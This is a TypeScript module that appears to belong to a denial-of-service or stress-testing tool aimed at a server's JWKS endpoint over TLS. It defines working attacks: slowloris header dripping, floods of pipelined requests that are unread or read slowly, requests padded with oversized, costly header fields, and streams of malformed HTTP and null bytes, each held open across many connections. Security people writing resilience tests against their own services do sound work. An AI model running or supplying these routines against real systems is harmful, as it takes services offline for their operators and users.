import { type Attack, type AttackContext, drip, keepOpen, pour, tls } from "./attack.ts";

const get = ({ target }: AttackContext, more = ""): string =>
  `GET ${target.jwksPath} HTTP/1.1\r\nHost: ${target.host}\r\n${more}\r\n`;

/** A header section that never ends, a few bytes at a time (slowloris). */
export const slowHeaders: Attack = (context) =>
  keepOpen(context, 128, (address) =>
    tls(context, address, "http/1.1", (socket) => {
      socket.resume();
      socket.write(`GET ${context.target.jwksPath} HTTP/1.1\r\nHost: ${context.target.host}\r\n`);
      drip(socket, 300, () => "X: a\r\n");
    }),
  );

/** Requests without end, and no answer is read. */
export const pipeliningUnread: Attack = (context) => {
  const requests = Buffer.from(get(context).repeat(250));
  return keepOpen(context, perAddress, (address) =>
    tls(context, address, "http/1.1", (socket) => {
      socket.pause();
      pour(context, socket, requests);
    }),
  );
};

/** The same, by clients that read a little now and then. */
export const pipeliningSlowlyRead: Attack = (context) => {
  const requests = Buffer.from(get(context).repeat(250));
  return keepOpen(context, 64, (address) =>
    tls(context, address, "http/1.1", (socket) => {
      socket.pause();
      const timer = setInterval(() => void socket.read(4096), 200);
      socket.once("close", () => clearInterval(timer));
      pour(context, socket, requests);
    }),
  );
};

/** Each request with header fields that are hard to read, as many as the bound allows. */
export const heavyFields: Attack = (context) => {
  const encoding = `Accept-Encoding: gzip;q=${" ".repeat(3500)}a b\r\n`;
  const match = `If-None-Match: ${'"a",'.repeat(800)}\r\n`;
  const requests = Buffer.from(get(context, encoding + match).repeat(8));
  return keepOpen(context, 8, (address) =>
    tls(context, address, "http/1.1", (socket) => {
      socket.resume();
      pour(context, socket, requests);
    }),
  );
};

/** What is no HTTP, and requests that are not quite. */
export const malformed: Attack = (context) => {
  const texts = [
    "\r\n".repeat(4000),
    "GET / HTTP/1.1\r\n".repeat(100),
    `POST ${context.target.jwksPath} HTTP/1.1\r\nHost: ${context.target.host}\r\nTransfer-Encoding: chunked\r\n\r\n${"1;a=b\r\na\r\n".repeat(1000)}`,
    `GET /${"a".repeat(9000)} HTTP/1.1\r\n\r\n`,
    "\0".repeat(8000),
  ].map((text) => Buffer.from(text, "latin1"));
  let next = 0;
  return keepOpen(context, 16, (address) =>
    tls(context, address, "http/1.1", (socket) => {
      socket.resume();
      next += 1;
      pour(context, socket, texts[next % texts.length] ?? Buffer.alloc(1));
    }),
  );
};

/** As many as one address gets. */
const perAddress = 256;
